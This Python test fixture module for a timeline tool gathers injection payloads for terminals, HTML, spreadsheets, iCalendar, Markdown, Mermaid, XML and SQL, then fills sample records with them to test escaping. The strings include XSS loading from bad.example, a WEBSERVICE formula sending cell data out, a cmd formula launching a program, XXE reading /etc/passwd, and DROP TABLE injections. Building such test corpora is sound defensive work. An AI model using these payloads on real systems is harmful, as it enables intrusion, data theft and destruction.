"""Words that would act where they are shown: on a terminal, in a page, a spreadsheet, a calendar, a diagram."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from timeline.contract import Timeline

if TYPE_CHECKING:
    from collections.abc import Iterable

# What a terminal, or rich, would obey.
TERMINAL = {
    "colour": "\x1b[31;5mred",
    "screen wiped": "\x1b[2J\x1b[3J\x1b[H",
    "other screen": "\x1b[?1049h\x1b[?25l",
    "line above": "\x1b[1A\x1b[2Kall is well",
    "reset": "\x1bc",
    "answer asked for": "\x1b[6n\x1b[c\x05",
    "title of the window": "\x1b]0;owned\x07",
    "link": "\x1b]8;;https://bad.example/\x1b\\here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXIgLg==\x07",
    "file sent": "\x1b]1337;File=inline=1:AAAA\x07",
    "device control": "\x1bP+q544e\x1b\\",
    "string started": "\x1bX never ended",
    "private message": "\x1b^secret\x1b\\",
    "picture": "\x1b_Gf=100,a=T;AAAA\x1b\\",
    "C1 colour": "\x9b31mred",
    "C1 title": "\x9d0;owned\x9c",
    "C1 others": "\x84\x85\x88\x8d\x90x\x98x\x9e\x9f",
    "bell": "\x07\x07",
    "backspace": "safe\x08\x08\x08\x08evil",
    "delete": "safe\x7f\x7f",
    "return": "evil\rsafe",
    "feeds": "a\x0b\x0cb",
    "shifts": "\x0e\x0flqqk",
    "nul": "a\x00b",
    "words turned": "\u202etxt.exe\u202c",
    "words set apart": "\u2066a\u2067b\u2068c\u2069d",
    "marks of direction": "\u200e\u200f\u061c",
    "nothing seen": "o\u200bn\u200c \u200dSun\u2060day\ufeff",
    "lines of Unicode": "a\u2028b\u2029c",
    "tags": "a\U000e0041\U000e007f",
    "end of markup": "[/] [/bold] [/link]",
    "markup": "[bold red on white]loud[/]",
    "link in markup": "[link=https://bad.example/]here[/link]",
    "action in markup": "[@click=app.bell]here[/]",
    "broken markup": "[[/]\\[/bold\\\\",
    "emoji codes": ":bomb: :skull_and_crossbones:",
}

# What a browser would run or fetch: each would call `bad`, ask the network for bad.example or hide what follows.
MARKUP = {
    "script": "<script>bad()</script>",
    "script in capitals": "<ScRiPt SRC=//bad.example/x.js></sCrIpT>",
    "end of the script": "</script><script>bad()</script>",
    "end of the style": "</style><style>@import '//bad.example/x.css'; * { display: none }</style>",
    "end of the title": "</title><script>bad()</script>",
    "end of a text area": "</textarea></select></noscript></template><script>bad()</script>",
    "end of an attribute": '"><script>bad()</script>',
    "end of a bare attribute": " onmouseover=bad() onfocus=bad() autofocus tabindex=0 x=",
    "end of a single quote": "' onmouseover='bad()' autofocus onfocus='bad()",
    "picture": "<img src=x onerror=bad()>",
    "picture from afar": '<img src="https://bad.example/p.png" srcset="//bad.example/q.png 2x">',
    "picture without spaces": "<img/src='x'/onerror='bad()'>",
    "broken tag": "<img src=x onerror=bad() <b",
    "tag in a tag": "<<script>script>bad()<</script>/script>",
    "drawing": "<svg onload=bad()><script>bad()</script></svg>",
    "drawing in motion": "<svg><animate onbegin=bad() attributeName=x dur=1s><set onend=bad()></svg>",
    "drawing of elsewhere": "<svg><use href='https://bad.example/x.svg#a'/><image href='//bad.example/y.png'/></svg>",
    "words of another kind": "<svg><foreignObject><iframe onload=bad()></iframe></foreignObject></svg>",
    "formula": "<math><mtext><table><mglyph><style><img src=x onerror=bad()></style></mglyph></table></mtext></math>",
    "frame": "<iframe srcdoc='<script>parent.bad()</script>'></iframe>",
    "frame from afar": "<iframe src=//bad.example></iframe><frame src=//bad.example>",
    "object": "<object data='javascript:bad()'><embed src=//bad.example/x.swf></object>",
    "body": "<body onload=bad() onpageshow=bad() background=//bad.example/x.png>",
    "details": "<details open ontoggle=bad()><summary>x</summary></details>",
    "film": "<video autoplay onloadstart=bad()><source onerror=bad() src=x></video><audio src=x onerror=bad()>",
    "form": "<form action=//bad.example><input autofocus onfocus=bad()><button formaction=javascript:bad()>",
    "marquee": "<marquee onstart=bad()>x</marquee>",
    "link": "<a href='javascript:bad()' autofocus onfocus=bad()>here</a>",
    "base": "<base href=//bad.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=//bad.example/'>",
    "looser rules": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    "style": "<p style='background:url(//bad.example/x.png)'>x</p>",
    "style from afar": "<link rel=stylesheet href=//bad.example/x.css><link rel=prefetch href=//bad.example/>",
    "shadow": "<div><template shadowrootmode=open><script>bad()</script></template></div>",
    "comment": "<!--",
    "end of a comment": "--><script>bad()</script><!--",
    "comment that is none": "<!-- --!><script>bad()</script>",
    "character data": "<![CDATA[ ]]><script>bad()</script>",
    "end of character data": "]]>",
    "instruction": "<?xml-stylesheet href='//bad.example/x.xsl' type='text/xsl'?>",
    "document type": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "plain text": "<plaintext>",
    "end of everything": "</details></ol></section></main></body></html><script>bad()</script>",
    "entities": "&lt;script&gt;bad()&lt;/script&gt; &#60;script&#62;bad()&#60;/script&#62; &#x3c;b&#x3e; &amp;lt;",
    "entities cut short": "&lt &#60script&#62 &quot &copy",
    "NUL in a tag": "<scr\x00ipt>bad()</scr\x00ipt>",
    "other angles": "\uff1cscript\uff1ebad()\uff1c/script\uff1e \u2039script\u203a",
    "other letters": "+ADw-script+AD4-bad()+ADw-/script+AD4-",
    "surrogates": "\ud800<script>bad()</script>\udc00",
    "script in a string": "'-bad()-' \"-bad()-\" `${bad()}` \\'-bad()//",
    "string on two lines": "\u2028bad()\u2029\nbad()//",
    "template": "{{constructor.constructor('bad()')()}} ${bad()} <%= bad() %> #{bad()}",
    "address that runs": "javascript:bad()",
    "address that runs, spelled": "JaVaScRiPt\x09:\x0abad() //",
    "address that runs, in spaces": " \x01javascript:bad()",
    "address of a page": "data:text/html,<script>bad()</script>",
    "address of a picture": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='bad()'/>",
    "address of Visual Basic": "vbscript:bad()",
    "address of a file": "file:///etc/passwd",
    "address of a blob": "blob:https://bad.example/1",
    "address without a scheme": "//bad.example/x",
    "address that ends": "https://bad.example/\" onclick='bad()' x=\"",
    "address in angles": "https://bad.example/><script>bad()</script>",
    "address with a line": "https://bad.example/\r\nLocation: javascript:bad()",
    "address of two hosts": "https://good.example@bad.example/",
    "turned": "\u202e>tpircs/<()dab>tpircs<",
    "names of the page": "constructor __proto__ toString events axis said",
    "very long": "<b>" * 3_000,
}

# What a spreadsheet would work out, and what stands before it where cells are parted otherwise.
FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "feed": "\n=1+1",
    "spaces": "   =1+1",
    "space that is none": "\xa0=1+1",
    "wide equals": "\uff1d1+1",
    "wide plus": "\uff0b1+1",
    "wide minus": "\uff0d1+1",
    "wide at": "\uff20SUM(1)",
    "program": "=cmd|' /C calc'!A0",
    "program of old": '=DDE("cmd";"/C calc";"x")',
    "link": '=HYPERLINK("https://bad.example/?"&A1,"here")',
    "picture": '=IMAGE("https://bad.example/p.png")',
    "feed from afar": '=IMPORTXML("https://bad.example/","//a")',
    "answer": '=WEBSERVICE("https://bad.example/?"&A1)',
    "quoted": '"=1+1"',
    "quoted once": '"=1+1',
    "apostrophe": "'=1+1",
    "next cell": "x,=1+1",
    "next cell of half of Europe": "x;=1+1",
    "next cell, quoted": 'x","=1+1","y',
    "next cell, by a tab": "x\t=1+1",
    "next row": "x\n=1+1,=1+1",
    "next row, of old": "x\r\n=1+1",
    "mark of order": "\ufeff=1+1",
    "unseen": "\u200b=1+1",
    "negative": "-2+3+cmd|' /C calc'!A0",
    "of a sheet": "@'x'!A1",
    "exponent": "12e34567",
    "zeros": "000123",
}

# What a calendar would take for another line.
CALENDAR = {
    "another event": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:bad\r\nDTSTART:20200101\r\nSUMMARY:bad",
    "line feed": "x\nATTACH:https://bad.example/",
    "return": "x\rATTACH:https://bad.example/",
    "folded": "x\r\n ATTACH:https://bad.example/",
    "end": "x\r\nEND:VEVENT\r\nEND:VCALENDAR",
    "alarm": "x\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///bin/sh\r\nTRIGGER:-PT1M\r\nEND:VALARM",
    "escapes": "a\\nATTACH:b\\;c\\,d\\\\",
    "last backslash": "a\\",
    "parameters": 'x";ALTREP="https://bad.example/',
    "separators": "a;b,c:d",
    "other lines": "a\u2028ATTACH:b\u2029c\x85d\x0be\x0cf",
    "controls": "a\x00\x07\x1b]0;x\x07",
    "long": "\u00e9" * 300,
}

# What Markdown would make something of.
MARKDOWN = {
    "link": "[here](https://bad.example/)",
    "link that runs": "[here](javascript:bad())",
    "link by name": "[here][1] [1]",
    "name of a link": "x\n\n[1]: https://bad.example/",
    "footnote": "[^1]: not said [^1]",
    "picture": "![x](https://bad.example/p.png)",
    "bare address": "<https://bad.example/> <mailto:x@bad.example>",
    "address alone": "see https://bad.example/ and www.bad.example and x@bad.example",
    "tag": "<script>bad()</script><img src=x onerror=bad()>",
    "block": "\n\n<script>bad()</script>\n\n",
    "comment": "<!-- hidden",
    "details": "<details open ontoggle=bad()>",
    "entity": "&lt;b&gt; &#60;",
    "heading": "\n# Not said\n\n## 1999\n",
    "underlined": "x\n===\ny\n---\n",
    "item": "\n- not said\n1. not said\n",
    "quote": "\n> not said",
    "code": "`code` ``code`` ```\nblock\n```",
    "indented": "\n\n    block\n",
    "fence": "\n~~~\nblock\n~~~",
    "table": "\n|a|b|\n|-|-|\n|1|2|\n",
    "pipe": "a | b | c",
    "stars": "*a* **b** ***c*** _d_ __e__ ~~f~~",
    "rule": "\n\n***\n\n---\n",
    "backslashes": "\\\\[x](y)\\",
    "break": "a  \nb\\\nc",
    "formula": "$x$ $$y$$ \\(z\\)",
    "mention": "@everyone #1 :bomb:",
    "front matter": "---\ntitle: not said\n---",
    "turned": "\u202e)/elpmaxe.dab//:sptth(]ereh[",
}

# What Mermaid would take for an order.
MERMAID = {
    "another event": "x : y : z",
    "another line": "x\n    section not said\n        2020 : not said",
    "order": "x; click a href 'javascript:bad()'",
    "directive": "%%{init: {'securityLevel': 'loose'}}%%",
    "comment": "%% hidden",
    "code": "#35; #58; #quot;",
    "front matter": "---\nconfig:\n  securityLevel: loose\n---",
    "tag": "<img src=x onerror=bad()> <br/> <script>bad()</script>",
    "title": "title not said",
    "section": "section not said",
    "accessible": "accTitle: not said",
    "long accessible": "accDescr { not said }",
    "another diagram": "flowchart TD\nA --> B",
    "quotes": "\"x\" 'y' `z`",
    "turned": "\u202e:x",
}

# What TimelineJS would make HTML, a link or a film of.
SLIDES = {
    **{name: MARKUP[name] for name in ("script", "picture", "frame", "link", "style", "entities", "address that runs")},
    "film": "https://www.youtube.com/watch?v=x",
    "frame of a map": '<iframe src="https://maps.google.com/x"></iframe>',
    "address": "see https://bad.example/'onclick='bad() and www.bad.example/?q=<b>",
    "mailbox": "write to x@bad.example",
    "file sent": "ftp://bad.example/x",
    "quotation": "<blockquote>x</blockquote>",
    "many addresses": "http://www.http://x@www.bad.example",
}

# What XML would not have, or would read as something else.
XML = {
    "tag": "</TIMEX3></TEXT><TEXT>not said",
    "attribute": '" value="1999" x="',
    "entity": "<!ENTITY e SYSTEM 'file:///etc/passwd'>&e; &lt; &#60; &bad;",
    "character data": "<![CDATA[x]]> ]]>",
    "comment": "<!-- -- -->",
    "instruction": "<?xml version='1.0'?><?php bad() ?>",
    "forbidden": "".join(map(chr, (0, 1, 8, 11, 12, 14, 27, 31, 0xFFFE, 0xFFFF, 0xD800))),
    "line ends": "a\r\nb\rc\nd\te",
    "unseen": "\x85\u2028\u202e\ufeff",
    "far away": "\U0001f4a3\U0010ffff",
}

# What SQL would run.
SQL = {
    "end of a string": "'); DROP TABLE events; --",
    "end of a name": '"; DROP TABLE events; --',
    "escape": "\\'; DROP TABLE events; --",
    "blob": "x'00'",
    "place of a value": "? :a @b $c",
    "nul": "a\x00'; DROP TABLE events; --",
    "search": '" OR title:* NOT (x) NEAR/2',
}

# What stands where a date should: too long, in other digits, turned round, or none at all.
DATES = (
    *(
        "",
        "-",
        "0",
        "/",
        "../..",
        "[]",
        "[,]",
        "[..]",
        "[2017..2016]",
        "{2017}",
        "soon",
        "1e999",
        "2017-00",
        "2017-02-30",
    ),
    *(
        "9999-99-99",
        "0000-00-00",
        "99999-12-31",
        "-999999-01-01",
        "2017-07-09/2016-01-01",
        "Y170000002",
        "2017-07-09T24:00",
    ),
    *("\u0662\u0660\u0661\u0667-\u0660\u0667", "\u00b2\u2070\u00b9\u2077-01-01", "\uff12\uff10\uff11\uff17"),
    *(
        "9" * 5_000,
        "-" + "9" * 5_000,
        "9" * 5_000 + "-01-01",
        "9" * 5_000 + "~",
        f"[{'2017-01-01,' * 300}2017]",
        "x" * 5_000,
    ),
)

_KEPT = {"type", "status", "basis", "kind", "earliest", "latest", "schema_version", "edtf", "precision"}


def everywhere(record: Any, words: str, kept: Iterable[str] = ()) -> Any:
    """The record as JSON with these words in every text that the contract leaves free, but under the keys kept."""
    if isinstance(record, dict):
        return {key: one if key in kept else everywhere(one, words, kept) for key, one in record.items()}
    if isinstance(record, list):
        return [everywhere(one, words, kept) for one in record]
    return words if isinstance(record, str) else record


def filled(sample: Timeline, words: str, *, dates: bool = False) -> Timeline:
    """One event of a sample, its documents and what else it tells, with these words in all that may hold any.

    Where `dates`, in the dates too, which the contract leaves as free as the rest.
    """
    told = sample.model_dump(mode="json")
    event, document = told["events"][0], told["documents"][0]
    quoted = {"start": 0, "end": len(words)}
    phrase = event["sources"][0]["phrase"] | quoted | {"timex": words}
    named = {"name": words, "text": words, **quoted}
    source = event["sources"][0] | quoted | {"phrase": phrase, "because": [words, words], "url": words, "page": 3}
    source |= {"said_by": {"text": words, **quoted}, "prefix": words, "suffix": words, "confidence": 0.5}
    source |= {"factors": [{"what": words, "share": 0.5, "of": 3}], "names": [named | {"kind": "actor"}]}
    event |= {"sources": [source, source], "actors": [words], "places": [words], "independent_sources": 2}
    event |= {"status": "alleged", "disagreements": [{"because": words, "sources": [0, 1, 9]}]}
    published = document["published"] | {
        "clues": [clue | quoted | {"kind": words} for clue in document["published"]["clues"]]
    }
    document |= {"title": words, "outlet": words, "url": words, "author": words, "part": words, "copy_of": words}
    document |= {"reader": words, "published": published, "undated": 2}
    told |= {"documents": [document], "events": [event]}
    told["unplaced"], told["problems"] = told["unplaced"][:1], told["problems"][:1]
    kept = _KEPT - {"edtf", "precision", "earliest", "latest"} if dates else _KEPT
    return Timeline.model_validate(everywhere(told, words, kept))


def together(sample: Timeline, payloads: Iterable[str], *, dates: bool = False) -> Timeline:
    """One timeline of an event for each payload, filled with it."""
    each = [filled(sample, words, dates=dates) for words in payloads]
    lists = ("documents", "events", "unplaced", "problems")
    return sample.model_copy(
        update={name: tuple(record for one in each for record in getattr(one, name)) for name in lists}
    )


def redated(sample: Timeline, told: str, precision: str) -> Timeline:
    """A sample whose first event, its citations and its first document have this for a date."""
    date = {"edtf": told, "earliest": told, "latest": told}
    record = sample.model_dump(mode="json")
    record["events"][0]["date"] |= {**date, "precision": precision}
    for source in record["events"][0]["sources"]:
        source["date"] |= date
    record["documents"][0]["published"] |= date
    return Timeline.model_validate(record)
